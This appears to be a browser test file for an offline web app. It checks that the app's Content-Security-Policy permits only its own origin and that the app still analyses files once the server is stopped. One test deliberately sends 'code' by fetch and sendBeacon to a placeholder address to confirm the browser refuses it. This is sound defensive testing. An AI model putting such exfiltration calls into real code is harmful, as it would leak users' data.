// Browser tests of the air-gap guarantees: the Content-Security-Policy allows only the page's own
// origin (and a request elsewhere is refused by the browser itself), and the service worker keeps
// the app working once the server is gone.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { ROOT, DIST, openApp } from './harness.mjs';
import { useBrowser } from './setup.mjs';
import { serve } from './server.mjs';

const ctx = useBrowser();

test('the CSP allows only the page\'s own origin, and the browser enforces it', async () => {
  const session = await openApp(ctx.browser, ctx.server);
  try {
    const { page } = session;
    const policy = await page.getAttribute('meta[http-equiv=Content-Security-Policy]', 'content');
    const directives = Object.fromEntries(policy.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
    assert.deepEqual(directives['default-src'], ["'self'"]);
    assert.deepEqual(directives['connect-src'], ["'self'"]);
    assert.deepEqual(directives['object-src'], ["'none'"]);
    assert.ok(directives['script-src'].includes("'wasm-unsafe-eval'"));
    for (const values of Object.values(directives)) {
      for (const value of values) assert.ok(!/^https?:|^\*$/.test(value), `another origin allowed: ${value}`);
    }
    // A bug that tried to send data away would be stopped by the ctx.browser.
    const outcome = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const sent = await fetch('http://198.51.100.7/collect', { method: 'POST', body: 'code' }).then(() => 'sent', () => 'refused');
      navigator.sendBeacon('http://198.51.100.7/beacon', 'code');
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { sent, violations };
    });
    assert.equal(outcome.sent, 'refused');
    assert.deepEqual(outcome.violations, ['connect-src', 'connect-src'], 'the fetch and the beacon are both refused');
    assert.ok(!session.requests.some((r) => r.url.includes('198.51.100.7')), 'the request left the page');
  } finally {
    await session.context.close();
  }
});

test('offline: loaded once, the server stopped, a reload still brings the app up and it analyses', async () => {
  const own = await serve(DIST);
  const session = await openApp(ctx.browser, own);
  try {
    const { page } = session;
    await own.close();
    await page.reload();
    await page.waitForSelector('[data-testid=app][data-worker-ready=true]', { timeout: 30_000 });
    const fixture = join(ROOT, 'tests/fixtures/parameter_removed');
    await page.setInputFiles('[data-testid=baseline-files]', join(fixture, 'baseline'));
    await page.setInputFiles('[data-testid=current-files]', join(fixture, 'current'));
    await page.waitForSelector('[data-testid=analyze]:not([disabled])');
    await page.click('[data-testid=analyze]');
    assert.equal(await (await page.waitForSelector('[data-testid=verdict]')).getAttribute('data-verdict'), 'breaking');
    await page.click('[data-testid=sample]');
    await page.waitForSelector('[data-testid=section-recommendations]');
    assert.equal(session.pageError, undefined);
  } finally {
    await session.context.close();
    await own.close().catch(() => {});
  }
});
